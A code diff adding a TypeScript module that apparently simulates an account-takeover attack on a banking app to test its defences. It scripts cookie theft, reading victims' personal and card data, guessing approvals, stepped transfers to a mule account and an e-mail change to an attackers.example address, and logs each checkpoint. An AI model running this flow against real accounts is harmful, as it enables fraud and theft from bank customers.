@@ -1,0 +1,166 @@
+import { codeOf, type Reply, type Visitor } from '../outside/visitor.js';
+import type { Victim } from './cast.js';
+import type { Entered } from './list-login.js';
+import type { Stage } from './stage.js';
+
+/** Longer than a device is on probation, so that this is not what stops the attackers. */
+const PROBATION_SECONDS = 73 * 3_600;
+const SENDS_YEN = [10_000, 3_000, 3_000, 3_000] as const;
+const PAGES = ['home', 'session', 'card', 'sign-ins', 'changes', 'limits', 'links', 'payees', 'transfers', 'statement'];
+const FLOW = 'change-guess-transfer';
+/** So many accounts are robbed one after the other, to one receiver. */
+const ROBBED_MAX = 6;
+
+/** Somebody's open account in the attackers' hands. */
+interface Held {
+  readonly victim: Victim;
+  readonly browser: Visitor;
+}
+
+/**
+ * Reads what there is, changes the e-mail address, guesses what approves, and sends the money to an account of their own; in
+ * every account that was entered, and in those whose cookies were stolen.
+ */
+export async function takeOver(stage: Stage, entered: readonly Entered[]): Promise<void> {
+  const stolen = await steal(stage);
+  const held = [...entered.flatMap((one) => known(stage, one)), ...stolen].slice(0, ROBBED_MAX);
+  stage.note(FLOW, {
+    step: `sign in with the list, or with stolen cookies: ${String(entered.length)} and ${String(stolen.length)} accounts`,
+    ...(held.length > 0
+      ? { outcome: 'through' }
+      : { outcome: 'stopped', checkpoint: '③.second-factor-unknown-device' }),
+  });
+  const [first, ...others] = held;
+  if (first === undefined) return;
+  await readPages(stage, held);
+  await reveal(stage, first);
+  await send(stage, [...others, first]);
+  await changeEmail(stage, first);
+}
+
+const known = (stage: Stage, { pair, browser }: Entered): Held[] =>
+  stage.cast.victims.filter(({ loginId }) => loginId === pair.loginId).map((victim) => ({ victim, browser }));
+
+/** The victims use their own devices, as they have for days; a program on them copies the cookies, and cannot copy the key. */
+async function steal(stage: Stage): Promise<Held[]> {
+  const own = stage.cast.robbed.map((victim) => ({ victim, account: stage.account(victim) }));
+  for (const { account } of own) await account.signIn();
+  if (stage.cast.means.later !== undefined && own.length > 0) {
+    await stage.cast.means.later(PROBATION_SECONDS);
+    for (const { account } of own) await account.signIn();
+  }
+  for (const { victim } of own) stage.robbed.add(victim.loginId);
+  return own.map(({ victim, account }) => ({ victim, browser: account.browser.copied() }));
+}
+
+async function readPages(stage: Stage, held: readonly Held[]): Promise<void> {
+  const before = stage.seen.size;
+  for (const { victim, browser } of held) {
+    for (const page of PAGES) stage.read(victim.loginId, victim.personal, (await browser.get(`/api/${page}`)).text);
+  }
+  const told = stage.seen.size - before;
+  if (told > 0) await stage.succeeded();
+  stage.note(FLOW, {
+    step: 'read name, birth date, contacts and card',
+    ...(told > 0 ? { outcome: 'through' } : { outcome: 'stopped', checkpoint: '④.home-minimal' }),
+    tries: held.length * PAGES.length,
+  });
+}
+
+/** Asks for what is shown only for an approval. */
+async function reveal(stage: Stage, { victim, browser }: Held): Promise<void> {
+  for (const what of ['contact', 'card'] as const) {
+    const { reply, guesses } = await stage.guessing(browser, `/api/reveals/${what}`, {});
+    const isThrough = reply.status === 200;
+    stage.answered(FLOW, `have ${what} data shown`, 'reveal', reply, isThrough, guesses);
+    if (!isThrough) continue;
+    for (const [field, value] of Object.entries(reply.body as Record<string, unknown>))
+      if (typeof value === 'string') stage.seen.add(`${victim.loginId} ${field} ${value}`);
+    await stage.succeeded();
+  }
+}
+
+/** Sends to the attackers' account, less when that is too much, one account after the other. */
+async function send(stage: Stage, held: readonly Held[]): Promise<void> {
+  const code = await muleCode(stage);
+  const replies: { readonly reply: Reply; readonly guesses: number }[] = [];
+  for (const one of held)
+    for (const amountYen of SENDS_YEN) {
+      const answer = await sendOnce(stage, one, code, amountYen);
+      replies.push(answer);
+      if (codeOf(answer.reply) !== 'limits.over-limit' && answer.reply.status >= 400) break;
+    }
+  const sent = replies
+    .filter(({ reply }) => reply.status === 200)
+    .map(({ reply }) => reply.body as { readonly state: string });
+  const done = sent.filter(({ state }) => state === 'done').length;
+  if (done > 0) await stage.succeeded();
+  const worst = replies.find(({ reply }) => reply.status >= 400)?.reply;
+  const answer = sent.length > done ? 'waiting' : (worst ?? 'done');
+  const step = `send money to an own account: ${String(done)} went through, ${String(sent.length - done)} wait`;
+  stage.answered(FLOW, step, 'transfer', answer, done > 0, replies.length);
+  if (sent.length > 0) await spend(stage);
+}
+
+async function sendOnce(stage: Stage, { browser }: Held, code: string, amountYen: number) {
+  const found = await browser.post('/api/payees/look-up', { code });
+  if (found.status >= 400) return { reply: found, guesses: 0 };
+  return stage.guessing(browser, '/api/transfers', { payeeId: (found.body as { readonly id: string }).id, amountYen });
+}
+
+async function muleCode(stage: Stage): Promise<string> {
+  const mule = stage.account(stage.cast.mule);
+  await mule.signIn();
+  return (await mule.browser.mustGet<{ code: string }>('/api/member-code')).code;
+}
+
+/** What the attackers can take out of their own account, of what came in. */
+async function spend(stage: Stage): Promise<void> {
+  const mule = stage.account(stage.cast.mule);
+  await mule.signIn();
+  const { transfers } = await mule.browser.mustGet<{
+    transfers: readonly {
+      direction: string;
+      state: string;
+      amountYen: number;
+      held?: { held: boolean; amountYen: number };
+    }[];
+  }>('/api/transfers');
+  const incoming = transfers.filter(({ direction }) => direction === 'received');
+  const heldYen = sum(incoming.map(({ held }) => (held?.held === true ? held.amountYen : 0)));
+  const doneYen = sum(incoming.filter(({ state }) => state === 'done').map(({ amountYen }) => amountYen)) - heldYen;
+  stage.yenLost += doneYen;
+  stage.yenHeld += heldYen + sum(incoming.filter(({ state }) => state === 'waiting').map(({ amountYen }) => amountYen));
+  stage.answered(
+    FLOW,
+    `spend what came in: ¥${String(doneYen)} free, ¥${String(heldYen)} held`,
+    'transfer',
+    doneYen > 0 ? 'done' : 'held',
+    doneYen > 0,
+  );
+}
+
+/** Changes the address that notices go to, as in 2020, and looks whether it counts. */
+async function changeEmail(stage: Stage, { browser }: Held): Promise<void> {
+  const before = await masked(browser);
+  const { reply, guesses } = await stage.guessing(browser, '/api/changes/email', {
+    email: 'kari-no-bako@attackers.example',
+  });
+  const counts = reply.status < 300 && (await masked(browser)) !== before;
+  if (counts) await stage.succeeded();
+  stage.answered(
+    FLOW,
+    'change the e-mail address',
+    'change',
+    reply.status < 300 && !counts ? 'pending' : reply,
+    counts,
+    guesses,
+  );
+}
+
+async function masked(browser: Visitor): Promise<string> {
+  const { body } = await browser.get('/api/changes');
+  return (body as { readonly emailMasked?: string }).emailMasked ?? '';
+}
+
+const sum = (yen: readonly number[]): number => yen.reduce((total, one) => total + one, 0);
